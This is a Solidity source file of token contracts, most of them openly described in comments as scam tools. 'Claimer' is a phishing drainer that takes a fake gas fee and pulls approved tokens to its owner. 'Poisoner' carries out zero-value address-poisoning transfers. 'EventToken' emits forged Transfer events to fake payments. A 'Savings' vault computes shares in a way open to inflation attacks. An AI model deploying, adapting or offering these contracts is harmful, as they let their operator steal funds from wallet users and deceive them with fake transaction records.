// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// A contract in a phisher's hand: users approve it, its owner pulls what they have to whom it likes.
contract Claimer {
    address private immutable _owner = msg.sender;

    /// What the fake page calls: it only takes the "gas fee".
    function claim() external payable {
        payable(_owner).transfer(msg.value);
    }

    function collect(IERC20 token, address[] calldata owners, uint256[] calldata amounts, address to) external {
        require(msg.sender == _owner, "not yours");
        for (uint256 i = 0; i < owners.length; i++) token.transferFrom(owners[i], to, amounts[i]);
    }
}

/// A savings account: what is paid in is answered by shares in the same transaction, and can be had back.
contract Savings is ERC20 {
    IERC20 public immutable asset;
    address private immutable _sponsor = msg.sender;

    constructor(IERC20 asset_) ERC20("Harbour Savings", "hSAVE") {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        uint256 held = asset.balanceOf(address(this));
        uint256 shares = totalSupply() == 0 ? amount : (amount * totalSupply()) / held;
        asset.transferFrom(msg.sender, address(this), amount);
        _mint(msg.sender, shares);
    }

    function withdraw(uint256 shares) external {
        uint256 amount = (shares * asset.balanceOf(address(this))) / totalSupply();
        _burn(msg.sender, shares);
        asset.transfer(msg.sender, amount);
    }
}

/// Subscriptions and payroll: a fixed sum for each period, pulled from who approved, paid to who is owed.
contract Standing {
    address private immutable _owner = msg.sender;

    function charge(IERC20 token, address[] calldata payers, uint256 fee, address to) external {
        require(msg.sender == _owner, "not yours");
        for (uint256 i = 0; i < payers.length; i++) token.transferFrom(payers[i], to, fee);
    }

    function stream(IERC20 token, address[] calldata payees, uint256[] calldata amounts) external {
        require(msg.sender == _owner, "not yours");
        for (uint256 i = 0; i < payees.length; i++) token.transfer(payees[i], amounts[i]);
    }
}

/// Sends nothing at all from many victims to as many lookalikes: no allowance is needed for zero.
contract Poisoner {
    function poison(IERC20 token, address[] calldata victims, address[] calldata lookalikes) external {
        for (uint256 i = 0; i < victims.length; i++) token.transferFrom(victims[i], lookalikes[i], 0);
    }
}

/// A token that says of itself whatever it is told: nothing moves, and the log shows a payment.
contract EventToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address private immutable _owner = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function say(address[] calldata from, address[] calldata to, uint256[] calldata amounts) external {
        require(msg.sender == _owner, "not yours");
        for (uint256 i = 0; i < from.length; i++) emit Transfer(from[i], to[i], amounts[i]);
    }
}
